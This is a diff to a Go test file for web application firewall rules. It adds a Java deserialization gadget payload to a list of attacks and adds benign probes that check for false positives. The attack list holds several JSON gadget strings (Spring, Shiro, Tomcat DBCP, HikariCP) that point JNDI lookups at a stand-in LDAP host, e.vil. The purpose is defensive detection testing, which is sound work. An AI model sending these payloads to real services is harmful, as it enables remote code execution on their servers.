@@ -47,6 +47,7 @@ var gadgetJSONAttacks = []string{
 	`["org.springframework.beans.factory.config.PropertyPathFactoryBean",{"targetBeanName":"ldap://e.vil/x","propertyPath":"x"}]`,
 	`{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassName":"$$BCEL$$x"}`,
 	`{"x":["org.apache.shiro.jndi.JndiObjectFactory",{"resourceName":"ldap://e.vil/x"}]}`,
+	`{"@type":"com.zaxxer.hikari.HikariConfig","metricRegistry":"ldap://e.vil/x"}`,
 }
 
 // javaSerialized is the start of a serialized commons-collections chain
@@ -74,6 +75,9 @@ var gadgetBenign = []string{
 	"CVE-2017-7525 is about com.sun.rowset.JdbcRowSetImpl in Jackson", "the marker rO0AB starts Java serialized data",
 	"gAAAAABl4b2cX3k9Q0VvWm1uT3JtY2VfdG9rZW4taGVyZQ==", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
 	"costume\nsystem", "Cosmos", "com.example.orders.OrderCreated", "Lcom.example.Foo;", "acedemy", "AAEAAAD",
+	// attack 17's false positives: prose that names a YAML tag
+	"Rails 7.1 complains about !ruby/object:ActiveSupport::HashWithIndifferentAccess in my fixtures, how do I fix it?",
+	"SnakeYAML output has !!com.example.config.AppConfig at the top, can I drop the tag?",
 }
 
 // TestGadgetsBeyondTheCRS: rules 210136 to 210138 refuse attack 16's B8
@@ -111,7 +115,11 @@ func TestGadgetsBeyondTheCRS(t *testing.T) {
 	benign = append(benign,
 		probe{name: "JSON-LD Person", method: "POST", path: "/api/items", contentType: "application/json", body: `{"@context":"https://schema.org","@type":"Person","name":"Ann"}`},
 		probe{name: "JSON type ids", method: "POST", path: "/api/items", contentType: "application/json", body: `["com.example.orders.OrderCreated",{"id":1}]`},
-		probe{name: "a Fernet token in a cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"session=" + gadgetBenign[9]}}})
+		probe{name: "a Fernet token in a cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"session=" + gadgetBenign[9]}}},
+		// attack 17's false positives: pool classes as configuration values
+		probe{name: "JSON dataSourceClassName", method: "POST", path: "/api/config", contentType: "application/json", body: `{"dataSourceClassName":"com.zaxxer.hikari.HikariDataSource"}`},
+		probe{name: "form spring.datasource.type", method: "POST", path: "/api/config", contentType: "application/x-www-form-urlencoded", body: "spring.datasource.type=com.zaxxer.hikari.HikariDataSource"},
+		probe{name: "JSON driverClassName c3p0", method: "POST", path: "/api/config", contentType: "application/json", body: `{"driverClassName":"com.mchange.v2.c3p0.ComboPooledDataSource"}`})
 	runBeyondTheCRS(t, nil, misses, benign)
 }
 
